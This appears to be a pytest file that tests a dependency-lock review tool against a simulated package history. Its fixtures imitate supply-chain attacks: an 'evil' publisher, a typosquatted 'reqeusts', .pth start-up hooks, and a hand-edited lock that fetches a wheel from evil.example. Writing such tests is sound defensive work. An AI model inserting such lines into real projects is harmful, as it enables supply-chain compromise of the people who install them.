"""scripts/review.py: what a reviewer is told of a change, on a history with every kind of change in it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from advisory_service import AdvisoryService, osv
from conftest import Checkout
from distributions import sdist
from review_history import History, licensed

EXPECTED = Path(__file__).with_name("review_expected.md")
IN = "-r requirements.in"
LINUX, WINDOWS = "cp312-cp312-manylinux_2_17_x86_64", "cp312-cp312-win_amd64"
OLD, NEW = "2025-06-01", "2026-02-01"


@pytest.fixture
def history(checkout: Checkout, capsys: pytest.CaptureFixture[str]) -> History:
    return History(checkout, capsys)


def begin(history: History) -> None:
    """Approve what a small team starts with."""
    history.requirements = ["flask", "rich", "pyyaml", "requests"]
    flask = history.offer(licensed("flask", "3.0.3", "BSD-3-Clause"), OLD)
    history.pin(IN, flask)
    history.pin("flask", history.offer(licensed("click", "8.1.7", "BSD-3-Clause"), OLD))
    history.pin(IN, history.offer(licensed("rich", "13.7.1"), OLD))
    history.pin(IN, *(history.offer(licensed("pyyaml", "6.0.1", tag=tag), OLD) for tag in (LINUX, WINDOWS)))
    history.pin(IN, history.offer(licensed("requests", "2.31.0", "Apache-2.0"), OLD))
    history.pin("requests", history.offer(licensed("certifi", "2024.7.4", "MPL-2.0"), OLD))
    history.pin("requests", history.offer(licensed("charset-normalizer", "3.3.2"), OLD))
    history.write()
    history.commit("begin")


def upgrade(history: History) -> None:
    """A newer version, past two others of which one is yanked."""
    history.offer(licensed("click", "8.1.8", "BSD-3-Clause"), "2025-07-01", yanked="it breaks completion")
    history.offer(licensed("click", "8.1.9", "BSD-3-Clause"), "2025-08-01")
    history.pin("flask", history.offer(licensed("click", "8.2.0", "BSD-3-Clause"), NEW))


def add(history: History) -> None:
    """A requirement and what it brings."""
    history.requirements += ["httpx"]
    history.pin(IN, history.offer(licensed("httpx", "0.27.0", "BSD-3-Clause", requires=["anyio"]), OLD))
    history.pin("httpx", history.offer(licensed("anyio", "4.4.0"), OLD))


def downgrade(history: History) -> None:
    """An older version."""
    history.pin(IN, history.offer(licensed("rich", "13.6.0"), "2024-06-01"))


def replace(history: History) -> None:
    """The same version with other bytes, which the upstream now has."""
    other = licensed("certifi", "2024.7.4", "MPL-2.0", files={"certifi/__init__.py": b"import os\n"})
    history.pin("requests", history.offer(other, NEW))


def approve_two(history: History) -> None:
    """A second file of the same version."""
    files = history.pins["flask"][0]
    history.pin(IN, *files, history.offer(licensed("flask", "3.0.3", "BSD-3-Clause", build="1"), NEW))


def approve_one(history: History) -> None:
    """And without it again."""
    history.pin(IN, history.pins["flask"][0][0])


def remove(history: History) -> None:
    """A requirement goes."""
    history.requirements.remove("rich")
    del history.pins["rich"]


def gain_target(history: History) -> None:
    """Another Python."""
    history.pythons += ["3.13"]
    tag = LINUX.replace("cp312", "cp313")
    history.pin(IN, *history.pins["pyyaml"][0], history.offer(licensed("pyyaml", "6.0.1", tag=tag), NEW))


def lose_target(history: History) -> None:
    """One platform less."""
    history.platforms.remove("win_amd64")


def turn_native(history: History) -> None:
    """A wheel for any machine becomes one with native code, much larger and under another licence."""
    files = {"charset_normalizer/md.so": bytes(3 * 10**6)}
    more = [licensed("charset-normalizer", "3.4.0", "LGPL-2.1-only", tag=tag, files=files) for tag in (LINUX,)]
    more += [licensed("charset-normalizer", "3.4.0", "LGPL-2.1-only", tag=LINUX.replace("cp312", "cp313"), files=files)]
    history.pin("requests", *(history.offer(one, NEW) for one in more))


def take_an_sdist(history: History) -> None:
    """A project of which there is no wheel."""
    history.requirements += ["docopt"]
    history.more = "allow_sdists: [docopt]\n"
    history.pin(IN, history.offer(sdist("docopt", "0.6.2"), OLD))


def take_yanked(history: History) -> None:
    """What is yanked, from projects that ended."""
    history.pin("httpx", history.offer(licensed("anyio", "4.5.0"), NEW, yanked="it <hangs> @everyone"))
    history.checkout.upstream.statuses["anyio"] = {"status": "archived", "reason": "see `trio`"}
    history.checkout.upstream.statuses["httpx"] = {"status": "quarantined"}
    history.pin(IN, history.offer(licensed("httpx", "0.27.1", "BSD-3-Clause"), NEW))


def change_publishers(history: History) -> None:
    """One project is published by others, one without provenance, one with it for the first time."""
    old = {name: history.pins[name][0][0] for name in ("flask", "click", "requests")}
    versions = {"flask": "3.0.4", "click": "8.2.1", "requests": "2.32.0"}
    new = {name: history.offer(licensed(name, versions[name], "BSD-3-Clause"), "2026-02-20") for name in versions}
    ours, theirs = "GitHub pallets/flask (release.yml)", "GitHub evil/flask (release.yml)"
    history.publishers({
        old["flask"]: ours, new["flask"]: theirs, old["click"]: "GitHub pallets/click (release.yml)", new["click"]: "",
        old["requests"]: "", new["requests"]: "GitHub psf/requests (release.yml)",
    })  # fmt: skip
    for name, one in new.items():
        history.pin(history.pins[name][1], one)


def change_inside(history: History) -> None:
    """New commands, names, plugins, and code that runs by itself; and a name that looks like another."""
    stem = "flask-3.1.0"
    scripts = b"[console_scripts]\nflask = flask:main\n[pytest11]\nflask = flask.testing\n"
    files = {
        "flask/__init__.py": b"",
        "flask_extra.py": b"",
        "flask-init.pth": b"import flask_extra\n",
        f"{stem}.data/scripts/flask-run": b"#!python\n",
        f"{stem}.data/data/etc/flask.conf": b"",
        f"{stem}.data/purelib/sitecustomize.py": b"",
        f"{stem}.dist-info/entry_points.txt": scripts,
    }
    history.pin(IN, history.offer(licensed("flask", "3.1.0", "BSD-3-Clause", files=files), NEW))
    history.requirements += ["reqeusts"]
    history.pin(IN, history.offer(licensed("reqeusts", "1.0"), NEW))


def edit(history: History) -> None:
    """Locks made with other tools, of which two were edited by hand."""
    history.tools = "pip-compile 7.7.0, pip 26.4"
    history.write()
    first, second = sorted(Path("locks/requirements").iterdir())
    first.write_text(first.read_text().replace("certifi==2024.7.4", "certifi==2024.8.30"))
    second.write_text(second.read_text() + "surprise @ https://evil.example/x.whl\n")


def go_stale(history: History) -> None:
    """Another requirement, for which nobody made a lock."""
    history.write()
    Path("requirements.in").write_text(Path("requirements.in").read_text() + "django\n")


WAIVER = """\
- rule: {rule}
  project: {project}
  versions: "{versions}"
  reason: only linked, as legal | agreed
  approved_by: A. Turing
  expires: {expires}
"""


def waive(history: History) -> None:
    """Exceptions: one in use, one for nothing, one that ends soon."""
    exceptions = (
        ("licenses", "charset-normalizer", "<4", "2027-01-31"),
        ("yanked", "nobody", ">=1", "2027-01-31"),
        ("yanked", "anyio", "==4.5.0", "2026-04-01"),
    )
    Path("waivers.yaml").write_text("".join(
        WAIVER.format(rule=rule, project=project, versions=versions, expires=expires)
        for rule, project, versions, expires in exceptions
    ))  # fmt: skip
    history.write()


def advise(history: History, service: AdvisoryService) -> None:
    """An upgrade that brings an advisory, ends one and leaves one."""
    history.rules = f"  vulnerabilities: {{service: osv, url: {service.url}}}\n"
    service.advisories["requests", "2.32.0"] = [osv("requests", "PYSEC-1"), osv("requests", "PYSEC-2")]
    service.advisories["requests", "2.33.0"] = [osv("requests", "PYSEC-2"), osv("requests", "PYSEC-3")]
    history.pin(IN, history.offer(licensed("requests", "2.33.0", "BSD-3-Clause"), NEW))


def several(history: History) -> None:
    """An upgrade, a downgrade, something new and something that goes, at once."""
    history.requirements.remove("docopt")
    del history.pins["docopt"]
    history.more = ""
    history.pin("requests", history.offer(licensed("certifi", "2025.1.1", "MPL-2.0"), NEW))
    history.pin("flask", history.offer(licensed("click", "8.1.9.post1", "BSD-3-Clause"), NEW))
    history.requirements += ["attrs>=23"]
    history.pin(IN, history.offer(licensed("attrs", "23.2.0"), OLD))


def several_more(history: History) -> None:
    """A replaced file, another target, a rule less and a new project with start-up code, at once."""
    history.rules = ""
    history.pythons += ["3.14"]
    tags = (LINUX, LINUX.replace("cp312", "cp313"), LINUX.replace("cp312", "cp314"))
    history.pin(IN, *(history.offer(licensed("pyyaml", "6.0.2", tag=tag), NEW) for tag in tags))
    history.pin("requests", history.pins["charset-normalizer"][0][0])
    history.requirements += ["hooks"]
    history.pin(IN, history.offer(licensed("hooks", "1.0", files={"hooks.pth": b"import hooks\n"}), NEW))
    attrs = licensed("attrs", "23.2.0", files={"attr/__init__.py": b"import os\n"})
    history.pin(IN, history.offer(attrs, NEW))


STEPS: tuple[Callable[[History], None], ...] = (
    *(upgrade, add, downgrade, replace, approve_two, approve_one, remove, gain_target, lose_target, turn_native),
    *(take_an_sdist, take_yanked, change_publishers, change_inside, edit, go_stale, waive, several, several_more),
)
# These write what they mean themselves.
_BY_HAND = {edit, go_stale, waive}


def story(history: History, service: AdvisoryService) -> str:
    """Make the history, and return the review of each of its commits."""
    begin(history)
    told = []
    for step in (*STEPS[:-2], lambda one: advise(one, service), *STEPS[-2:]):
        step(history)
        if step not in _BY_HAND:
            history.write()
        history.commit("next")
        title = step.__doc__ or advise.__doc__
        told.append(f"# {title}\n\n{history.review()}")
    return "\n".join(told)


def test_each_change_of_an_index_is_reviewed_as_expected(history: History, tmp_path: Path) -> None:
    with AdvisoryService(tmp_path) as service:
        told = story(history, service)
    (tmp_path / EXPECTED.name).write_text(told, encoding="utf-8")
    # Where what is told has become better, this is the new expectation.
    assert told == EXPECTED.read_text(encoding="utf-8"), tmp_path / EXPECTED.name
